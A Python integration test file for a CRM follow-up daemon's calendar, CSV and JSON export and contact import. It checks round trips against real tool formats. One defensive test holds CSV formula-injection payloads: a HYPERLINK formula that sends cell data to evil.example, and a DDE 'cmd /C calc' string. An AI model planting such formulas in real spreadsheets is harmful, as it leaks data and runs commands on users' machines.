"""Export and import through the real client: the iCalendar read back by
python3-icalendar (UIDs stable across exports and unique to a database,
SEQUENCE after a reschedule, alarms, closed follow-ups cancelled), CSV
read back by Python's csv module, JSON holding the protocol's objects;
contacts imported from CSV files as CRMs and spreadsheets write them and
from vCards written by python3-vobject, and from the files in fixtures/,
byte for byte as Google Contacts, Salesforce, Outlook (English, German,
French) and an old phone's vCard 2.1 write them.

Bad input tried: an unknown format, --what with ics, rows with the wrong
number of fields, a row without a name, an unclosed quote, a bad email, an
unknown stage, a vCard without a name; a rep exporting or importing
another rep's records (forbidden), while an admin may with --owner/--as.
"""

import csv
import io
import json
import os
import pwd
import re
import shutil
import signal
import subprocess
import tempfile
import time

import pytest

from fu import (FAKETIME_LIB, FOLLOWUP, FOLLOWUPD, SRCDIR, WRAPPER, Daemon,
                account)

icalendar = pytest.importorskip("icalendar")
vobject = pytest.importorskip("vobject")


def add_contact(daemon, name, **kw):
    return daemon.call("contact.add", name=name, **kw)["contact"]


def export(daemon, tmp_path, *args, name="out"):
    path = tmp_path / name
    rc, out, err = daemon.client("export", "-o", str(path), *args)
    assert rc == 0, err
    return path.read_bytes()


def events(doc):
    cal = icalendar.Calendar.from_ical(doc)
    return {str(e["UID"]): e for e in cal.walk("VEVENT")}


# --- export ---


def test_ics_export_reads_back_with_stable_uids_and_alarms(daemon,
                                                           tmp_path):
    c = add_contact(daemon, "Ada Lovelace", company="Acme, Inc.",
                    phone="+44 20 7946 0001", email="ada@example.com",
                    stage="proposal")
    cb = daemon.call("followup.add", contact=c["id"], due="tomorrow 10:00",
                     kind="callback", reason="go through the quote; "
                     "all of it, with \\ and a long tail that must fold "
                     "because it is far longer than seventy-five octets "
                     "— ünïcödé too")["followup"]
    fu = daemon.call("followup.add", contact=c["id"], due="in 3 days",
                     reason="send info", remind_before="1h")["followup"]
    gone = daemon.call("followup.add", contact=c["id"],
                       due="in 4 days")["followup"]
    daemon.call("followup.done", id=gone["id"])

    first = export(daemon, tmp_path, "--format", "ics", name="a.ics")
    # CRLF everywhere, no line over 75 octets.
    assert first.endswith(b"\r\n") and b"\n" not in first.replace(
        b"\r\n", b"")
    assert all(len(line) <= 75 for line in first.split(b"\r\n"))
    cal = icalendar.Calendar.from_ical(first)
    assert str(cal["VERSION"]) == "2.0" and "followup" in str(cal["PRODID"])
    ev = events(first)
    assert len(ev) == 3
    # The one done before this first export is already cancelled, so a
    # calendar never shows it as a plan.
    g = [e for e in ev.values() if str(e["STATUS"]) == "CANCELLED"]
    assert len(g) == 1 and str(g[0]["UID"]).startswith(
        "followup-%d-" % gone["id"])
    assert g[0].walk("VALARM") == [] and int(g[0]["SEQUENCE"]) == 1
    a = [e for e in ev.values() if "Call back" in str(e["SUMMARY"])][0]
    assert str(a["SUMMARY"]) == "Call back Ada Lovelace (Acme, Inc.)"
    assert a["DTSTART"].dt.strftime("%Y-%m-%dT%H:%M:%SZ") == cb["due_at"]
    assert a["DTSTART"].dt.utcoffset().total_seconds() == 0
    assert str(a["DURATION"].to_ical(), "ascii") == "PT15M"
    desc = str(a["DESCRIPTION"])
    assert desc.startswith("go through the quote; all of it, with \\ ")
    assert "ünïcödé" in desc
    assert "Phone: +44 20 7946 0001" in desc
    assert "Email: ada@example.com" in desc and "Stage: proposal" in desc
    assert int(a["SEQUENCE"]) == 0 and "DTSTAMP" in a
    alarms = a.walk("VALARM")
    assert len(alarms) == 1 and str(alarms[0]["ACTION"]) == "DISPLAY"
    assert alarms[0]["TRIGGER"].dt.total_seconds() == -15 * 60
    b = [e for e in ev.values() if "Follow up" in str(e["SUMMARY"])][0]
    assert b.walk("VALARM")[0]["TRIGGER"].dt.total_seconds() == -3600
    assert str(b["DESCRIPTION"]).startswith("send info\n")
    dbid = str(b["UID"]).split("-")[2].split("@")[0]
    assert len(dbid) == 32 and int(dbid, 16) >= 0
    assert str(b["UID"]) == "followup-%d-%s@followupd" % (fu["id"], dbid)
    assert all(str(e["STATUS"]) == "CONFIRMED" for e in (a, b))

    # Exported again: the same events.  Rescheduled: same UID, a higher
    # SEQUENCE, the new time.
    again = events(export(daemon, tmp_path, "--format", "ics",
                          name="b.ics"))
    assert set(again) == set(ev)
    moved = daemon.call("followup.reschedule", id=cb["id"],
                        due="in 5 days")["followup"]
    assert moved["revision"] == 1
    after = events(export(daemon, tmp_path, name="c.ics"))
    assert set(after) == set(ev)
    uid = str(a["UID"])
    assert int(after[uid]["SEQUENCE"]) == 1
    assert after[uid]["DTSTART"].dt.strftime("%Y-%m-%dT%H:%M:%SZ") == \
        moved["due_at"]
    daemon.call("followup.snooze", id=cb["id"], until="in 6 days")
    assert int(events(export(daemon, tmp_path, name="d.ics"))[uid][
        "SEQUENCE"]) == 2


def test_ics_export_cancels_what_was_closed_since_the_last(daemon,
                                                            tmp_path):
    c = add_contact(daemon, "Ada Lovelace")
    cb = daemon.call("followup.add", contact=c["id"], due="tomorrow 10:00",
                     kind="callback")["followup"]
    daemon.call("followup.reschedule", id=cb["id"], due="tomorrow 11:00")
    fu = daemon.call("followup.add", contact=c["id"],
                     due="in 3 days")["followup"]
    first = events(export(daemon, tmp_path, "--format", "ics",
                          name="a.ics"))
    assert [str(e["STATUS"]) for e in first.values()] == ["CONFIRMED"] * 2

    daemon.call("followup.done", id=cb["id"], note="called")
    daemon.call("followup.cancel", id=fu["id"])
    rc, out, err = daemon.client("export", "-o", str(tmp_path / "b.ics"))
    assert rc == 0, err
    second = events((tmp_path / "b.ics").read_bytes())
    # Same UIDs, each cancelled with a higher SEQUENCE, so a calendar that
    # imports the second file drops both events.
    assert set(second) == set(first)
    for uid, e in second.items():
        assert str(e["STATUS"]) == "CANCELLED"
        assert int(e["SEQUENCE"]) > int(first[uid]["SEQUENCE"])
        assert e.walk("VALARM") == []
    assert [int(e["SEQUENCE"]) for e in second.values()] == [2, 1]

    # A contact archived with a pending follow-up: cancelled too.
    d = add_contact(daemon, "Bob")
    daemon.call("followup.add", contact=d["id"], due="in 2 days")
    daemon.call("contact.archive", id=d["id"])
    third = events(export(daemon, tmp_path, "--format", "ics",
                          name="c.ics"))
    assert len(third) == 3
    assert all(str(e["STATUS"]) == "CANCELLED" for e in third.values())


def test_ics_uids_belong_to_the_database_not_the_host(make_daemon,
                                                      tmp_path):
    host = os.uname().nodename
    (tmp_path / "b").mkdir()
    one = make_daemon()
    two = Daemon(tmp_path / "b")
    two.start()
    try:
        uids = []
        for d in (one, two):
            c = add_contact(d, "Ada Lovelace")
            d.call("followup.add", contact=c["id"], due="tomorrow 10:00")
            rc, out, err = d.client("export", "--format", "ics")
            assert rc == 0, err
            (uid,) = events(out.encode())
            assert host not in uid and "localhost" not in uid
            uids.append(uid)
        # The same follow-up id in two databases: two events, not one.
        assert uids[0].startswith("followup-1-") and \
            uids[1].startswith("followup-1-")
        assert uids[0] != uids[1]
        # Stable across a restart of the daemon on the same database.
        two.restart()
        rc, out, err = two.client("export", "--format", "ics")
        assert rc == 0, err
        assert list(events(out.encode())) == [uids[1]]
    finally:
        two.stop()


@pytest.mark.skipif(FAKETIME_LIB is None or WRAPPER != [],
                    reason="needs libfaketime, and no valgrind wrapper")
def test_ics_export_keeps_closed_follow_ups_30_days(make_daemon, tmp_path):
    clock = tmp_path / "clock"
    clock.write_text("@2026-11-02 09:00:00\n")
    d = make_daemon(faketime=str(clock))
    c = add_contact(d, "Ada Lovelace")
    f = d.call("followup.add", contact=c["id"],
               due="2026-11-03T10:00:00Z")["followup"]
    d.call("followup.done", id=f["id"])

    def exported():
        rc, out, err = d.client("export", "--format", "ics")
        assert rc == 0, err
        return events(out.encode())
    clock.write_text("@2026-12-02 08:58:00\n")
    time.sleep(0.05)
    assert [str(e["STATUS"]) for e in exported().values()] == ["CANCELLED"]
    clock.write_text("@2026-12-02 09:02:00\n")
    time.sleep(0.05)
    assert exported() == {}


def test_ics_export_to_stdout_and_empty_calendar(daemon):
    rc, out, err = daemon.client("export", "--format", "ics")
    assert rc == 0, err
    cal = icalendar.Calendar.from_ical(out)
    assert cal.walk("VEVENT") == []


def test_csv_export_is_rfc4180_and_holds_every_table(daemon, tmp_path):
    c = add_contact(daemon, "Bob \"The Builder\"", company="Acme, Inc.",
                    notes="line 1\nline 2, with a comma", stage="lead")
    add_contact(daemon, "Carla")
    daemon.call("interaction.add", contact=c["id"], kind="call",
                outcome="reached", note="said \"call me\", then hung up")
    daemon.call("followup.add", contact=c["id"], due="tomorrow 9:00",
                reason="quote")
    doc = export(daemon, tmp_path, "--format", "csv", name="c.csv")
    assert doc.startswith(b"ID,Name,Company,Phone,Email,Time Zone,Stage,"
                          b"Notes,")
    assert not doc.startswith(b"\xef\xbb\xbf") and doc.endswith(b"\r\n")
    rows = list(csv.DictReader(io.StringIO(doc.decode(), newline="")))
    assert [r["Name"] for r in rows] == ["Bob \"The Builder\"", "Carla"]
    assert rows[0]["Company"] == "Acme, Inc."
    assert rows[0]["Notes"] == "line 1\nline 2, with a comma"
    assert rows[0]["Archived"] == "no" and rows[1]["Company"] == ""

    doc = export(daemon, tmp_path, "--format", "csv", "--what",
                 "interactions", name="i.csv")
    rows = list(csv.DictReader(io.StringIO(doc.decode(), newline="")))
    assert len(rows) == 1 and rows[0]["Contact"] == "Bob \"The Builder\""
    assert rows[0]["Note"] == "said \"call me\", then hung up"
    assert rows[0]["Company"] == "Acme, Inc."

    doc = export(daemon, tmp_path, "-o", str(tmp_path / "f.csv"), "--what",
                 "followups", name="f.csv")
    rows = list(csv.DictReader(io.StringIO(doc.decode(), newline="")))
    assert [(r["Kind"], r["Status"], r["Reason"]) for r in rows] == \
        [("followup", "pending", "quote")]


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_export_neutralises_formulas_and_reads_back(daemon, tmp_path):
    # What a spreadsheet would run: = + - @ (OWASP), and text that
    # already begins with a quote before one of them.
    c = add_contact(daemon, "Mallory", company="@SUM(1+1)*cmd|' /C calc'!A0",
                    phone="+44 20 7946 0001", email="m@example.com",
                    notes=HYPERLINK)
    add_contact(daemon, "Quoted", company="'=already quoted",
                notes="-2+3", email="q@example.com")
    add_contact(daemon, "Plain", company="O'Brien & Sons",
                notes="'tis fine", email="p@example.com")
    daemon.call("interaction.add", contact=c["id"], kind="note",
                note="=1+2")
    doc = export(daemon, tmp_path, "--format", "csv", name="c.csv")
    rows = {r["Name"]: r for r in
            csv.DictReader(io.StringIO(doc.decode(), newline=""))}
    m = rows["Mallory"]
    assert m["Notes"] == "'" + HYPERLINK
    assert m["Company"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert m["Phone"] == "'+44 20 7946 0001"
    assert rows["Quoted"]["Company"] == "''=already quoted"
    assert rows["Quoted"]["Notes"] == "'-2+3"
    # Nothing else gets a quote.
    assert rows["Plain"]["Company"] == "O'Brien & Sons"
    assert rows["Plain"]["Notes"] == "'tis fine"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for r in rows.values() for v in r.values())
    doc = export(daemon, tmp_path, "--format", "csv", "--what",
                 "interactions", name="i.csv")
    assert next(csv.DictReader(io.StringIO(doc.decode(), newline="")))[
        "Note"] == "'=1+2"

    # Our own import takes each guard quote off again: nothing changes.
    r = imp(daemon, tmp_path / "c.csv")
    assert r["counts"]["unchanged"] == 3, r
    other = tmp_path / "other"
    other.mkdir()
    b = Daemon(other)
    b.start()
    try:
        assert imp(b, tmp_path / "c.csv")["counts"]["added"] == 3
        got = by_email(b)
        assert got["m@example.com"]["notes"] == HYPERLINK
        assert got["m@example.com"]["phone"] == "+44 20 7946 0001"
        assert got["m@example.com"]["company"] == \
            "@SUM(1+1)*cmd|' /C calc'!A0"
        assert got["q@example.com"]["company"] == "'=already quoted"
        assert got["q@example.com"]["notes"] == "-2+3"
        assert got["p@example.com"]["notes"] == "'tis fine"
    finally:
        b.stop()


def test_csv_export_with_a_byte_order_mark(daemon, tmp_path):
    add_contact(daemon, "Jürgen Müller", email="jm@example.de")
    plain = export(daemon, tmp_path, "--format", "csv", name="p.csv")
    doc = export(daemon, tmp_path, "--format", "csv", "--bom", name="b.csv")
    assert doc == b"\xef\xbb\xbf" + plain
    assert imp(daemon, tmp_path / "b.csv")["counts"]["unchanged"] == 1
    rc, out, err = daemon.client("--json", "export", "--format", "csv",
                                 "--bom", "--what", "followups")
    # The document is what --json shows on standard output.
    assert rc == 0 and out.startswith("\ufeffID,Contact ID,"), out


def test_json_export_holds_the_protocols_objects(daemon, tmp_path):
    c = add_contact(daemon, "Dora", email="dora@example.com")
    i = daemon.call("interaction.add", contact=c["id"], kind="note",
                    note="hello\nthere \"x\" \u00e9\t")["interaction"]
    f = daemon.call("followup.add", contact=c["id"],
                    due="tomorrow 9:00")["followup"]
    archived = add_contact(daemon, "Gone")
    daemon.call("contact.archive", id=archived["id"])
    rc, out, err = daemon.client("export", "--format", "json")
    assert rc == 0, err
    doc = json.loads(out)
    # Laid out as one document indented two spaces a level, each record
    # too (a note's newline stays an escape inside its string).
    assert out == json.dumps(doc, indent=2, ensure_ascii=False) + "\n"
    got = daemon.call("contact.get", id=c["id"])
    assert doc["contacts"][0] == got["contact"]
    assert doc["contacts"][1]["archived"] is True
    assert doc["interactions"] == [i]
    assert doc["followups"] == [daemon.call("followup.get",
                                            id=f["id"])["followup"]]
    rc, out, err = daemon.client("export", "-o", str(tmp_path / "x.json"))
    assert rc == 0 and "Exported 2 contacts, 1 interaction, 1 follow-up" \
        in out, (out, err)
    assert json.loads((tmp_path / "x.json").read_text()) ["contacts"] == \
        doc["contacts"]
    # --json prints the daemon's result once the file is written.
    ics = tmp_path / "x.ics"
    rc, out, err = daemon.client("--json", "export", "-o", str(ics))
    r = json.loads(out)
    assert r["format"] == "ics" and r["counts"] == {"followups": 1}
    assert r["bytes"] == ics.stat().st_size
    assert ics.read_bytes().startswith(b"BEGIN:VCALENDAR\r\n")


def test_export_refuses_bad_arguments(daemon, conn):
    for args, word in ((["--format", "xml"], "unknown format"),
                       (["--format", "ics", "--what", "contacts"], "--what"),
                       (["--format", "csv", "--what", "deals"],
                        "unknown table"),
                       ([], "which format"),
                       (["--owner", "x", "--all", "--format", "csv"],
                        "once"),
                       (["--format", "json", "--bom"], "--bom")):
        rc, out, err = daemon.client("export", *args)
        assert rc == 2 and word in err, (args, err)
    assert conn.error("export", format="pdf")["code"] == "bad_request"
    assert conn.error("export", format="ics",
                      what="contacts")["code"] == "bad_request"
    assert conn.error("export", format="csv",
                      what="deals")["code"] == "bad_request"
    assert conn.error("export")["code"] == "bad_request"
    assert conn.error("export", format="ics",
                      bom=True)["code"] == "bad_request"
    assert conn.error("export", format="csv",
                      bom="yes")["code"] == "bad_request"


# --- import ---


def imp(daemon, path, *args):
    rc, out, err = daemon.client("--json", "import", str(path), *args)
    assert rc == 0, err
    return json.loads(out)


def by_email(daemon):
    return {c["email"]: c for c in
            daemon.call("contact.list", limit=1000)["contacts"]}


CRM_CSV = (
    "\ufeffFirst Name,Last Name,Account Name,E-mail Address,Business Phone,"
    "Lead Status,Description,Lead Source\r\n"
    "Ada,Lovelace,\"Acme, Inc.\",ada@example.com,+44 20 7946 0001,"
    "Proposal,\"Met at the fair.\r\nWants a quote, \"\"soon\"\".\",Web\r\n"
    "Bob,Builder,Widgets,bob@example.com,,,,\r\n"
    "broken,row,with,too,few\r\n"
    ",,Nameless Ltd,nobody@example.com,,,,\r\n"
    "Carla,Diaz,\"Foo\r\nBar\",carla@example.com,,Info Sent,,\r\n")


def test_csv_import_from_a_crm_export(daemon, tmp_path):
    path = tmp_path / "leads.csv"
    path.write_bytes(CRM_CSV.encode())
    r = imp(daemon, path)
    assert r["counts"] == {"added": 3, "updated": 0, "unchanged": 0,
                           "skipped": 2}, r
    skipped = [(x["line"], x["reason"]) for x in r["results"]
               if x["status"] == "skipped"]
    assert skipped == [(5, "5 fields where the header has 8"),
                       (6, "no name")]
    assert [x["line"] for x in r["results"]] == [2, 4, 5, 6, 7]
    got = by_email(daemon)
    ada = got["ada@example.com"]
    assert ada["name"] == "Ada Lovelace" and ada["company"] == "Acme, Inc."
    assert ada["phone"] == "+44 20 7946 0001" and ada["stage"] == "proposal"
    assert ada["notes"] == "Met at the fair.\nWants a quote, \"soon\"."
    assert got["bob@example.com"]["stage"] == "lead"
    # A line break inside quotes stays in the notes; a company is one line.
    assert got["carla@example.com"]["company"] == "Foo Bar"
    assert got["carla@example.com"]["stage"] == "info-sent"

    # The human output: counts, and the line of every skipped record.
    path.write_bytes(CRM_CSV.encode())
    rc, out, err = daemon.client("import", str(path))
    assert rc == 0, err
    assert "0 added, 0 updated, 3 unchanged, 2 skipped" in out, out
    assert "line 5: skipped: 5 fields where the header has 8" in out
    assert "line 6: skipped: no name" in out


def test_import_matches_by_email_and_updates(daemon, tmp_path):
    old = add_contact(daemon, "Ada L.", email="Ada@Example.com",
                      phone="+44 1", notes="kept?")
    path = tmp_path / "a.csv"
    path.write_text("Name,Email,Company,Stage\n"
                    "Ada Lovelace,ADA@EXAMPLE.COM,Acme,negotiation\n"
                    "New Person,new@example.com,,\n")
    r = imp(daemon, path)
    assert r["counts"] == {"added": 1, "updated": 1, "unchanged": 0,
                           "skipped": 0}
    assert r["results"][0]["id"] == old["id"]
    contacts = daemon.call("contact.list")["contacts"]
    assert len(contacts) == 2       # updated, not duplicated
    ada = daemon.call("contact.get", id=old["id"])["contact"]
    assert ada["name"] == "Ada Lovelace" and ada["company"] == "Acme"
    assert ada["stage"] == "negotiation"
    # Fields the file leaves empty are kept, never cleared.
    assert ada["phone"] == "+44 1" and ada["notes"] == "kept?"
    assert ada["email"] == "Ada@Example.com"
    # Again: nothing changes.
    r = imp(daemon, path)
    assert r["counts"]["unchanged"] == 2 and r["counts"]["added"] == 0


def test_import_matches_email_in_any_case_of_any_letter(daemon, tmp_path):
    # Local parts beyond ASCII, as reps' contacts have them; upper-cased
    # by Python (a sharp s becomes SS) as a spreadsheet's UPPER() or a
    # CRM would.
    parts = ["jürgen.müller", "straße", "françois", "ωμέγα", "иван",
             "zoë", "łukasz", "çağla", "josé", "ana"]
    rows = ["Name,Email"]
    for i in range(300):
        rows.append("Person %d,%s.%d@example.com" % (i, parts[i % 10], i))
    path = tmp_path / "a.csv"
    path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    assert imp(daemon, path)["counts"]["added"] == 300
    upper = tmp_path / "upper.csv"
    upper.write_text("\r\n".join(r.upper() for r in rows) + "\r\n",
                     encoding="utf-8")
    r = imp(daemon, upper)
    assert r["counts"] == {"added": 0, "updated": 300, "unchanged": 0,
                           "skipped": 0}, r["counts"]
    assert daemon.call("status")["counts"]["contacts"] == 300
    # The address keeps the spelling the rep had.
    assert "straße.1@example.com" in by_email(daemon)


def test_import_closing_a_deal_cancels_its_followups(daemon, tmp_path):
    old = add_contact(daemon, "Ada", email="ada@example.com")
    f = daemon.call("followup.add", contact=old["id"],
                    due="2030-01-02T10:00:00Z")["followup"]["id"]
    path = tmp_path / "won.csv"
    path.write_text("Name,Email,Stage\nAda,ada@example.com,won\n")
    r = imp(daemon, path)
    assert r["results"][0]["status"] == "updated"
    assert r["results"][0]["cancelled"] == 1
    assert daemon.call("followup.get", id=f)["followup"]["status"] == \
        "cancelled"


def test_import_warnings_survive_values_cut_mid_character(daemon, tmp_path):
    path = tmp_path / "u.csv"
    zone = "x" + "\u00e9" * 70          # cut at 64 bytes: mid-character
    path.write_text("Name,Email,Time Zone\nZo\u00eb,zoe@example.com,%s\n"
                    % zone, encoding="utf-8")
    r = imp(daemon, path)
    (w,) = r["results"][0]["warnings"]
    assert w.startswith("unknown time zone") and w.endswith("left out")


def test_import_warns_and_skips_what_the_daemon_refuses(daemon, tmp_path):
    path = tmp_path / "w.csv"
    path.write_text("Name,Email,Phone,Time Zone,Stage\n"
                    "Ann,ann@example.com,ext. 5,Mars/Olympus,Open\n"
                    "Bad Mail,not-an-address,,,\n")
    r = imp(daemon, path)
    assert r["counts"] == {"added": 1, "updated": 0, "unchanged": 0,
                           "skipped": 1}
    ann = r["results"][0]
    assert len(ann["warnings"]) == 3
    assert r["results"][1]["reason"] == \
        "\"not-an-address\" is not an email address"
    c = by_email(daemon)["ann@example.com"]
    assert c["phone"] is None and c["tz"] is None and c["stage"] == "lead"


def test_dry_run_writes_nothing(daemon, tmp_path):
    add_contact(daemon, "Bob", email="bob@example.com")
    path = tmp_path / "leads.csv"
    path.write_bytes(CRM_CSV.encode())
    before = daemon.call("contact.list")
    rc, out, err = daemon.client("import", "--dry-run", str(path))
    assert rc == 0, err
    assert "Columns:" in out
    assert "First Name      -> name (first part)" in out
    assert "E-mail Address  -> email" in out
    assert "Lead Source     (ignored)" in out
    assert "would add 2, update 1, leave 0 unchanged, skip 2" in out, out
    assert "line 2: add Ada Lovelace" in out
    assert "line 4: update contact" in out
    assert "line 5: skipped" in out
    assert daemon.call("contact.list") == before
    r = imp(daemon, path, "--dry-run")
    assert r["dry_run"] is True and r["counts"]["added"] == 2
    assert daemon.call("contact.list") == before
    assert daemon.call("status")["counts"]["contacts"] == 1


def test_vcard_import_of_a_file_written_by_vobject(daemon, tmp_path):
    cards = []
    for i, (fn, org, email) in enumerate((
            ("Ada Lovelace", "Acme, Inc.", "ada@example.com"),
            ("Jürgen Müller", "Müller; Söhne", "jm@example.de"))):
        v = vobject.vCard()
        v.add("n").value = vobject.vcard.Name(family=fn.split()[1],
                                              given=fn.split()[0])
        v.add("fn").value = fn
        v.add("org").value = [org]
        tel = v.add("tel")
        tel.value = "+44 20 7946 000%d" % i
        tel.type_param = "WORK"
        v.add("email").value = email
        v.add("note").value = ("Long note, with commas; semicolons and a "
                               "backslash \\ that folds past seventy-five "
                               "octets\nand a second line")
        cards.append(v.serialize())
    doc = "".join(cards)
    assert "\r\n " in doc       # vobject folded the long lines
    nameless = vobject.vCard()
    nameless.add("email").value = "x@example.com"
    nameless.add("fn").value = ""
    path = tmp_path / "contacts.vcf"
    path.write_text(doc + "BEGIN:VCARD\r\nVERSION:3.0\r\n"
                    "EMAIL:x@example.com\r\nEND:VCARD\r\n", newline="")
    r = imp(daemon, path)
    assert r["counts"] == {"added": 2, "updated": 0, "unchanged": 0,
                           "skipped": 1}, r
    assert r["results"][2]["reason"] == "no name (FN or N)"
    got = by_email(daemon)
    ada = got["ada@example.com"]
    assert ada["name"] == "Ada Lovelace" and ada["company"] == "Acme, Inc."
    assert ada["phone"] == "+44 20 7946 0000"
    assert ada["notes"] == ("Long note, with commas; semicolons and a "
                            "backslash \\ that folds past seventy-five "
                            "octets\nand a second line")
    jm = got["jm@example.de"]
    assert jm["name"] == "Jürgen Müller" and jm["company"] == "Müller; Söhne"
    # --format vcard reads a file whatever its name.
    other = tmp_path / "contacts.txt"
    other.write_text(doc, newline="")
    r = imp(daemon, other, "--format", "vcard")
    assert r["counts"]["unchanged"] == 2


# --- files as real tools write them (tests/integration/fixtures) ---


def fixture(name):
    return os.path.join(SRCDIR, "tests", "integration", "fixtures", name)


def test_google_contacts_csv_keeps_the_first_of_joined_values(daemon):
    r = imp(daemon, fixture("google-contacts.csv"))
    assert r["counts"] == {"added": 3, "updated": 0, "unchanged": 0,
                           "skipped": 0}, r
    got = by_email(daemon)
    # "+34 612 34 56 78 ::: +34 91 123 45 67": the first is the phone,
    # the second goes to the notes.
    lucia = got["lucia@azulejoslevante.es"]
    assert lucia["name"] == "Lucía Fernández"
    assert lucia["company"] == "Azulejos Levante S.L."
    assert lucia["phone"] == "+34 612 34 56 78"
    assert lucia["notes"] == "Other phone: +34 91 123 45 67"
    # Two addresses in one cell were "not an email address" for the row.
    marco = got["marco.rossi@ceramicherossi.it"]
    assert marco["name"] == "Marco Rossi"
    assert marco["notes"] == ("Met at Cevisama.\n"
                              "Other email: m.rossi@example.com")
    assert got["emma.schmidt@example.de"]["name"] == "Emma Schmidt"
    # Read again, nothing changes: the notes are built the same way.
    assert imp(daemon, fixture("google-contacts.csv"))["counts"][
        "unchanged"] == 3


def test_salesforce_lead_report_keeps_the_company(daemon):
    r = imp(daemon, fixture("salesforce-leads.csv"))
    assert r["counts"]["added"] == 2, r
    got = by_email(daemon)
    priya = got["priya.natarajan@northwind.example"]
    assert priya["name"] == "Priya Natarajan"
    assert priya["company"] == "Northwind Traders"
    assert priya["phone"] == "(415) 555-0134"
    assert got["tbecker@fabrikam.example"]["company"] == "Fabrikam, Inc."
    assert got["tbecker@fabrikam.example"]["phone"] == "+1 206 555 0199"


def test_outlook_account_number_is_not_a_company(daemon):
    rc, out, err = daemon.client("import", "--dry-run",
                                 fixture("outlook.csv"))
    assert rc == 0, err
    assert re.search(r"^  Account +\(ignored\)$", out, re.M), out
    r = imp(daemon, fixture("outlook.csv"))
    assert r["counts"]["added"] == 2, r
    got = by_email(daemon)
    jane = got["jane.smith@contoso.example"]
    assert jane["name"] == "Jane Smith" and jane["company"] is None
    assert jane["phone"] == "+1 (425) 555-0100"
    assert jane["notes"] == "Prefers mornings."
    assert got["ravi.kumar@contoso.example"]["company"] == "Contoso Ltd"


@pytest.mark.parametrize("name, people", [
    ("outlook-de.csv", {
        "j.mueller@baeckerei-gross.example": (
            "Jürgen Müller", "Bäckerei Groß GmbH", "+49 221 123456",
            "Rückruf nach 14 Uhr."),
        "sabine.weiss@example.de": (
            "Sabine Weiß", None, "+49 160 9876543", None)}),
    ("outlook-fr.csv", {
        "helene@boulangerie-lefevre.example": (
            "Hélène Lefèvre", "Boulangerie Lefèvre SARL",
            "+33 4 72 00 00 01", "Préfère être appelée le matin."),
        "f.dubois@example.fr": (
            "François Dubois", None, "+33 7 98 76 54 32", None)})])
def test_localised_outlook_headers(daemon, name, people):
    # Outlook writes these in the Windows code page, not UTF-8.
    with open(fixture(name), "rb") as f:
        raw = f.read()
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")
    r = imp(daemon, fixture(name))
    assert r["counts"] == {"added": 2, "updated": 0, "unchanged": 0,
                           "skipped": 0}, r
    got = by_email(daemon)
    for email, (full, company, phone, notes) in people.items():
        c = got[email]
        assert (c["name"], c["company"], c["phone"], c["notes"]) == (
            full, company, phone, notes)


def test_vcard_21_quoted_printable_in_its_charset(daemon):
    raw = open(fixture("vcard21-latin1.vcf"), "rb").read()
    assert b"M=FCller;J=FCrgen" in raw and b"Gro\xdf" in raw
    r = imp(daemon, fixture("vcard21-latin1.vcf"))
    assert r["counts"] == {"added": 2, "updated": 0, "unchanged": 0,
                           "skipped": 0}, r
    got = {c["name"]: c for c in
           daemon.call("contact.list", limit=100)["contacts"]}
    jm = got["Jürgen Müller"]
    assert jm["company"] == "Bäckerei Groß GmbH"
    assert jm["email"] == "j.mueller@baeckerei-gross.example"
    assert jm["phone"] == "+49 221 123456"
    # The vCard line break (CR LF) is stored as LF, like every note.
    assert jm["notes"] == "Rückruf nach 14 Uhr.\nGrüße aus Köln"
    sw = got["Sabine Weiß"]
    assert sw["notes"] == "Budget 5.000 €"


def test_archived_column_of_our_export_is_read(daemon, tmp_path):
    r = imp(daemon, fixture("followup-export.csv"))
    assert r["counts"] == {"added": 3, "updated": 0, "unchanged": 0,
                           "skipped": 0}, r
    live = {c["name"] for c in
            daemon.call("contact.list", limit=100)["contacts"]}
    gone = daemon.call("contact.list", archived=True,
                       limit=100)["contacts"]
    assert live == {"Ada Lovelace", "Carla Diaz"}
    assert [c["name"] for c in gone] == ["Bob Builder"]
    assert gone[0]["archived"] and gone[0]["stage"] == "lost"
    # The guard quotes the export put before a phone's + and a formula
    # are taken off.
    assert gone[0]["notes"] == HYPERLINK
    assert by_email(daemon)["carla@example.com"]["phone"] == "+1 555 0100"
    # Read again: the archived one is unchanged, not refused.
    r = imp(daemon, fixture("followup-export.csv"))
    assert r["counts"]["unchanged"] == 3, r

    # A live contact the file says is archived is archived, and its
    # follow-ups cancelled as contact.archive would.
    c = add_contact(daemon, "Dan Live", email="dan@example.com")
    daemon.call("followup.add", contact=c["id"], due="tomorrow 10:00")
    path = tmp_path / "a.csv"
    path.write_text("Name,Email,Archived\r\nDan Live,dan@example.com,yes\r\n"
                    "Eve,eve@example.com,maybe\r\n"
                    "Bob Builder,bob@example.com,no\r\n")
    r = imp(daemon, path)
    res = {x["line"]: x for x in r["results"]}
    assert res[2]["status"] == "updated" and res[2]["cancelled"] == 1, r
    assert daemon.call("contact.get", id=c["id"])["contact"]["archived"]
    # A value that is neither yes nor no loses nothing: the row is shown.
    assert res[3]["status"] == "skipped"
    assert res[3]["reason"] == 'Archived is "maybe" (yes or no)'
    # The file says Bob is live, the database has him archived: the rep
    # restores him first, as before.
    assert res[4]["status"] == "skipped"
    assert "archived; restore it first" in res[4]["reason"]


def test_archived_contacts_come_back_archived(daemon, tmp_path):
    add_contact(daemon, "Kept", email="kept@example.com")
    c = add_contact(daemon, "Gone", email="gone@example.com")
    daemon.call("contact.archive", id=c["id"])
    export(daemon, tmp_path, "--format", "csv", name="c.csv")
    # Into another database, as when a rep moves to a new server.
    other = tmp_path / "other"
    other.mkdir()
    b = Daemon(other)
    b.start()
    try:
        r = imp(b, tmp_path / "c.csv")
        assert r["counts"]["added"] == 2, r
        assert [x["name"] for x in b.call(
            "contact.list", archived=True, limit=10)["contacts"]] == ["Gone"]
        assert [x["name"] for x in b.call(
            "contact.list", limit=10)["contacts"]] == ["Kept"]
    finally:
        b.stop()


def test_contact_import_archived_must_be_a_boolean(conn):
    r = conn.call("contact.import", contacts=[
        {"line": 1, "name": "A", "archived": "yes"},
        {"line": 2, "name": "B", "archived": True}])
    assert r["results"][0]["status"] == "skipped"
    assert r["results"][0]["reason"] == '"archived" must be true or false'
    assert r["results"][1]["status"] == "added"


def test_exported_csv_imports_back(daemon, tmp_path):
